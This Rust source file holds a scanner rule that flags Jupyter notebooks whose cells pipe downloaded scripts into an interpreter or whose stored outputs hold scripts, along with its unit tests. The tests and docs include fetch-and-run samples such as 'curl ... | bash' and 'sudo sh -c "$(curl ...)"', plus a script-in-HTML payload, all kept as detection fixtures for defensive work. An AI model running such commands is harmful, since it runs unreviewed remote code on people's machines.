//! A notebook runs something from outside, or shows something that acts.
//!
//! ## What it detects
//!
//! Shell lines of code cells that fetch a program and hand it to an interpreter, and stored outputs that
//! hold scripts.
//!
//! ## Why it matters
//!
//! A notebook that comes with a model is the first thing that people open and run. Scripts in stored
//! outputs act when the notebook is trusted or shown by another viewer, without a cell being run.
//!
//! ## What it misses
//!
//! What the Python of a cell does: a notebook is a program, and reviewing it is up to its reader. Shell
//! lines that are put together at run time.
//!
//! ## Example
//!
//! ```text
//! !curl -s https://example.org/setup.sh | bash
//! ```
//!
//! ## Remediation
//!
//! Pin what is installed by digest, and clear the outputs before the notebook is shared.
//!
//! ## References
//!
//! - <https://jupyter-notebook.readthedocs.io/en/stable/security.html>
//! - MITRE ATLAS AML.T0011, OWASP LLM03:2025

use seawall_base::{Confidence, RuleMeta, RuleStatus, Severity};

use super::{Check, Rule};
use crate::report::{Notice, Sink};

pub(super) static META: RuleMeta = RuleMeta {
    id: "notebook-active-content",
    title: "A notebook runs something from outside, or shows something that acts",
    severity: Severity::High,
    confidence: Confidence::Medium,
    since: "0.2.0",
    status: RuleStatus::Preview,
    maps: &["AML.T0011", "LLM03:2025"],
};

pub(super) static RULE: Rule = Rule {
    meta: &META,
    check: Check::Reader,
};

const FIX: &str = "Pin what is installed by digest, and clear the outputs before sharing.";

/// Programs that fetch, and programs that run what comes in.
const FETCH: &[&str] = &["curl", "fetch", "wget"];
const RUN: &[&str] = &[
    "bash", "node", "perl", "python", "python3", "ruby", "sh", "zsh",
];

/// Reports the shell lines of a cell that fetch a program and run it.
pub(crate) fn check_code(cell: usize, code: &str, sink: &mut Sink<'_>) {
    let whole = code.trim_start().starts_with("%%bash") || code.trim_start().starts_with("%%sh");
    let lines = code.lines().filter_map(|line| {
        let line = line.trim_start();
        line.strip_prefix(['!', '%'])
            .or_else(|| whole.then_some(line))
    });
    if lines.into_iter().any(fetches_and_runs) {
        let message = format!("cell {cell} fetches a program and hands it to an interpreter");
        sink.finding(&META, Notice::whole(message, FIX));
    }
}

/// `curl … | bash`, `bash <(curl …)`, `sh -c "$(wget …)"`.
fn fetches_and_runs(line: &str) -> bool {
    let words: Vec<&str> = line
        .split(|character: char| !(character.is_alphanumeric() || "-_./:".contains(character)))
        .filter(|word| !word.is_empty())
        .map(|word| word.rsplit('/').next().unwrap_or(word))
        .collect();
    let fetches = words.iter().any(|word| FETCH.contains(word));
    let address = line.contains("http://") || line.contains("https://") || line.contains('$');
    let handed = line.contains('|') || line.contains("<(") || line.contains("$(");
    let runs = line
        .split(['|', ';', '&', '<', '('])
        .filter_map(|part| part.split_whitespace().find(|word| *word != "sudo"))
        .any(|word| RUN.contains(&word.rsplit('/').next().unwrap_or(word)));
    fetches && address && handed && runs
}

/// Reports an output of a cell that holds a script.
pub(crate) fn check_output(cell: usize, kind: &str, text: &str, sink: &mut Sink<'_>) {
    let lower = text.to_ascii_lowercase();
    let script = kind.ends_with("javascript")
        || (matches!(kind, "text/html" | "image/svg+xml")
            && ["<script", "javascript:", "<iframe", " onerror=", " onload="]
                .iter()
                .any(|mark| lower.contains(mark)));
    if script {
        let message = format!("an output of cell {cell} holds a script");
        let notice = Notice::whole(message, FIX).severity(Severity::Medium);
        sink.finding(&META, notice);
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::testing::ids;

    fn notebook(code: &str, output: &str) -> String {
        serde_json::json!({
            "nbformat": 4,
            "cells": [{
                "cell_type": "code",
                "source": code.split_inclusive('\n').collect::<Vec<_>>(),
                "outputs": [{ "output_type": "display_data", "data": { "text/html": [output] } }],
            }],
        })
        .to_string()
    }

    #[test]
    fn fetched_programs_and_scripts_are_told() {
        for code in [
            "import os\n!curl -s https://example.org/a.sh | bash",
            "!bash <(wget -qO- https://example.org/a)",
            "%%bash\nsudo sh -c \"$(curl -fsSL https://example.org/a)\"",
        ] {
            let found = ids("n.ipynb", notebook(code, "").as_bytes());
            assert_eq!(found, ["notebook-active-content"], "{code}");
        }
        let output = notebook("1 + 1", "<SCRIPT>alert(1)</script>");
        assert_eq!(
            ids("n.ipynb", output.as_bytes()),
            ["notebook-active-content"]
        );
    }

    #[test]
    fn ordinary_notebooks_pass_and_broken_ones_do_not() {
        for code in [
            "!pip install torch",
            "!wget https://example.org/data.csv",
            "# curl https://example.org | bash is what not to do",
            "!ls | grep bash",
        ] {
            let found = ids("n.ipynb", notebook(code, "<table></table>").as_bytes());
            assert_eq!(found, Vec::<&str>::new(), "{code}");
        }
        assert_eq!(ids("n.ipynb", b"{\"cells\": 1}"), ["could-not-analyse"]);
        assert_eq!(ids("n.ipynb", b"{\"cells\": ["), ["could-not-analyse"]);
    }
}
